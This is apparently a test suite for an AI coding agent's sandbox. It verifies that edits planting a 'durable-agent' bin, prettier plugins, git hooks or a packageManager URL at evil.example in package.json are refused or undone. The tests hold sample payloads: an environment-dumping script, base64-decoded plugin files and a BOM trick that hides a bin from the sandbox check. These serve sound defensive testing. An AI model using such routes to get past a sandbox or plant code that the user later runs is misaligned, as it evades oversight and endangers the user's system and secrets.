// unit (issue 30, gaps G1/G2): package.json as a way into what the person runs without running a
// script. G1: the file tools (acceptEdits, bypassPermissions: no rule) add a `durable-agent` bin —
// the sandbox undid that after a Bash call (M14) but Write and Edit did not check it; and a BOM
// before the JSON hid the bin from the sandbox's check while npm reads it. G2: the control keys
// (prettier's `plugins`, lint-staged, husky, corepack's packageManager…) that make the person's
// formatter, git hooks or package manager run what they name. Real sandbox, real files; oracles: the
// person's own `npx durable-agent` / `prettier --check` (a marker the agent's file writes) and the
// package.json on disk — never the tool's words.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { SandboxHost } from '../../src/sandbox/host';
import type { PermissionMode } from '../../src/toolProtocol/permissionTypes';
import { sandboxSkip } from '../support/systemPackages';
import { pipelineSession } from '../support/pipelineTool';

const base = realpathSync(mkdtempSync(path.join(tmpdir(), 'da-gaps-')));
const marks = path.join(base, 'marks');
const saved = { HOME: process.env.HOME };
let sandboxHost: SandboxHost;
let skip: string | false = false;

before(async () => {
  mkdirSync(marks, { recursive: true });
  mkdirSync(path.join(base, 'home'), { recursive: true });
  process.env.HOME = path.join(base, 'home');
  process.env.ANTHROPIC_API_KEY = 'sk-ant-BAIT-G-api';
  sandboxHost = new SandboxHost();
  skip = await sandboxSkip(sandboxHost, 'the package.json gap tests');
});
after(async () => {
  await sandboxHost?.close();
  process.env.HOME = saved.HOME;
  delete process.env.ANTHROPIC_API_KEY;
  rmSync(base, { recursive: true, force: true });
});

let seq = 0;
function project(manifest: Record<string, unknown> = { name: 'app', version: '1.0.0', private: true }): string {
  const root = path.join(base, `p${++seq}`);
  mkdirSync(path.join(root, 'src'), { recursive: true });
  writeFileSync(path.join(root, 'package.json'), `${JSON.stringify(manifest, null, 2)}\n`);
  writeFileSync(path.join(root, 'src', 'x.js'), 'const a = 1\n');
  return root;
}
const pkg = (root: string) => JSON.parse(readFileSync(path.join(root, 'package.json'), 'utf8').replace(/^\uFEFF/, ''));

const tool = (root: string, mode: PermissionMode, name: string, input: Record<string, unknown>) =>
  pipelineSession(root, mode, sandboxHost)(name, input);

/** Read then Edit in one session (Edit needs the read). */
async function readThenEdit(root: string, mode: PermissionMode, file: string, oldS: string, newS: string) {
  const run = pipelineSession(root, mode, sandboxHost);
  await run('Read', { file_path: file });
  return run('Edit', { file_path: file, old_string: oldS, new_string: newS });
}

const envDump = (mark: string) =>
  `#!/usr/bin/env node\nrequire("fs").writeFileSync(${JSON.stringify(mark)}, JSON.stringify(process.env));\n`;

/** The person's `npx --offline durable-agent status x` in `root`: nothing of the agent's ran. */
function personNpxRunsNothing(root: string, mark: string): void {
  try {
    execFileSync(path.join(path.dirname(process.execPath), 'npx'), ['--offline', 'durable-agent', 'status', 'x'], {
      cwd: root,
      env: { ...process.env, npm_config_cache: path.join(base, 'npm-cache'), npm_config_update_notifier: 'false' },
      stdio: 'ignore',
      timeout: 60_000,
    });
  } catch {
    // the real durable-agent (or none) may fail here: what matters is what ran
  }
  assert.equal(existsSync(mark), false, 'the person’s npx durable-agent ran the agent’s file');
}

/** The person's `prettier --check src/x.js` in `root` (their editor's format on save): no plugin of the agent's ran. */
function personPrettierRunsNothing(root: string, mark: string): void {
  const prettier = path.resolve(__dirname, '..', '..', '..', 'node_modules', '.bin', 'prettier');
  try {
    execFileSync(prettier, ['--check', 'src/x.js'], { cwd: root, stdio: 'ignore', timeout: 60_000 });
  } catch {
    // "code style issues" exits 1: the check ran
  }
  assert.equal(existsSync(mark), false, 'the person’s prettier imported the agent’s plugin');
}

const pluginFile = (mark: string) =>
  `require("fs").writeFileSync(${JSON.stringify(mark)}, "ran");\nmodule.exports = {};\n`;

for (const mode of ['acceptEdits', 'bypassPermissions'] as const)
  test(`G1 (${mode}): Edit adds a durable-agent bin to package.json — refused (is_error), the file keeps none, the person’s npx durable-agent runs nothing`, async (t) => {
    if (skip) return t.skip(skip);
    const root = project();
    const mark = path.join(marks, `g1-edit-${mode}`);
    mkdirSync(path.join(root, 'tools'));
    writeFileSync(path.join(root, 'tools', 'cli.js'), envDump(mark), { mode: 0o755 });
    const out = await readThenEdit(
      root,
      mode,
      path.join(root, 'package.json'),
      '"private": true',
      '"private": true,\n  "bin": { "durable-agent": "tools/cli.js" }',
    );
    t.diagnostic(out.text.slice(0, 200));
    assert.equal(pkg(root).bin, undefined);
    assert.equal(out.isError, true);
    personNpxRunsNothing(root, mark);
  });

test('G1 (acceptEdits): Write of a new packages/x/package.json with a durable-agent bin, and of tools/durable-agent beside a directories.bin — both refused', async (t) => {
  if (skip) return t.skip(skip);
  const root = project({ name: 'app', directories: { bin: 'tools' } });
  const mark = path.join(marks, 'g1-write');
  const one = await tool(root, 'acceptEdits', 'Write', {
    file_path: path.join(root, 'packages', 'x', 'package.json'),
    content: JSON.stringify({ name: 'durable-agent', bin: 'cli.js' }),
  });
  const two = await tool(root, 'acceptEdits', 'Write', {
    file_path: path.join(root, 'tools', 'durable-agent'),
    content: envDump(mark),
  });
  t.diagnostic(`${one.text.slice(0, 160)} | ${two.text.slice(0, 160)}`);
  assert.deepEqual(
    {
      sub: existsSync(path.join(root, 'packages', 'x', 'package.json')),
      bin: existsSync(path.join(root, 'tools', 'durable-agent')),
    },
    { sub: false, bin: false },
  );
  personNpxRunsNothing(root, mark);
  // An ordinary edit of package.json still works.
  const ok = await readThenEdit(root, 'acceptEdits', path.join(root, 'package.json'), '"app"', '"app2"');
  assert.equal(ok.isError, false, ok.text);
  assert.equal(pkg(root).name, 'app2');
});

test('G1 (dontAsk): sandboxed `npm pkg set bin.durable-agent=…`, and a package.json written with a BOM before its JSON — both undone, the person’s npx durable-agent runs nothing', async (t) => {
  if (skip) return t.skip(skip);
  for (const how of ['npm', 'bom'] as const) {
    const root = project();
    const mark = path.join(marks, `g1-${how}`);
    const script = Buffer.from(envDump(mark)).toString('base64');
    const edit =
      how === 'npm'
        ? 'npm pkg set bin.durable-agent=tools/cli.js'
        : `printf '\\357\\273\\277{"name":"app","version":"1.0.1","bin":{"durable-agent":"tools/cli.js"}}' > package.json`;
    const out = await tool(root, 'dontAsk', 'Bash', {
      command: `mkdir -p tools && echo ${script} | base64 -d > tools/cli.js && chmod +x tools/cli.js && ${edit} && cat package.json`,
    });
    t.diagnostic(`${how}: ${out.text.slice(0, 200)}`);
    assert.equal(pkg(root).bin?.['durable-agent'], undefined, how);
    personNpxRunsNothing(root, mark);
  }
});

test('G2 (dontAsk): sandboxed `npm pkg set prettier.plugins[]=./tools/fmt.cjs` — put back, the person’s prettier --check imports nothing of the agent’s', async (t) => {
  if (skip) return t.skip(skip);
  const root = project();
  const mark = path.join(marks, 'g2-prettier');
  const plugin = Buffer.from(pluginFile(mark)).toString('base64');
  const out = await tool(root, 'dontAsk', 'Bash', {
    command: `mkdir -p tools && echo ${plugin} | base64 -d > tools/fmt.cjs && npm pkg set 'prettier.plugins[]=./tools/fmt.cjs' version=1.0.1 && cat package.json`,
  });
  t.diagnostic(out.text.slice(0, 300));
  assert.deepEqual(
    { prettier: pkg(root).prettier, version: pkg(root).version },
    { prettier: undefined, version: '1.0.1' },
  );
  personPrettierRunsNothing(root, mark);
});

test('G2 (acceptEdits): Edit adds a prettier key with a plugin — refused, the person’s prettier imports nothing', async (t) => {
  if (skip) return t.skip(skip);
  const root = project();
  const mark = path.join(marks, 'g2-prettier-edit');
  mkdirSync(path.join(root, 'tools'));
  writeFileSync(path.join(root, 'tools', 'fmt.cjs'), pluginFile(mark));
  const out = await readThenEdit(
    root,
    'acceptEdits',
    path.join(root, 'package.json'),
    '"private": true',
    '"private": true,\n  "prettier": { "plugins": ["./tools/fmt.cjs"] }',
  );
  t.diagnostic(out.text.slice(0, 200));
  assert.equal(pkg(root).prettier, undefined);
  assert.equal(out.isError, true);
  personPrettierRunsNothing(root, mark);
});

test('G2 (dontAsk): the other control keys a command adds or changes are put back, the rest of its edit kept; the person’s own kept, a removal allowed', async (t) => {
  if (skip) return t.skip(skip);
  const root = project({
    name: 'app',
    version: '1.0.0',
    'lint-staged': { '*.js': 'eslint' },
    eslintConfig: { root: true },
  });
  const set = {
    'lint-staged': { '*.js': 'sh tools/x.sh' },
    husky: { hooks: { 'pre-commit': 'sh tools/x.sh' } },
    gitHooks: { 'pre-commit': 'sh tools/x.sh' },
    'pre-commit': ['evil'],
    commitlint: { plugins: ['./tools/x.cjs'] },
    stylelint: { plugins: ['./tools/x.cjs'] },
    packageManager: 'yarn@https://evil.example/yarn.js',
    version: '2.0.0',
  };
  const js = `const f="package.json",p=JSON.parse(require("fs").readFileSync(f));Object.assign(p,${JSON.stringify(set)});delete p.eslintConfig;require("fs").writeFileSync(f,JSON.stringify(p,null,2))`;
  const out = await tool(root, 'dontAsk', 'Bash', { command: `node -e '${js}' && echo done` });
  t.diagnostic(out.text.slice(0, 400));
  const after = pkg(root);
  assert.deepEqual(after, { name: 'app', version: '2.0.0', 'lint-staged': { '*.js': 'eslint' } });
});
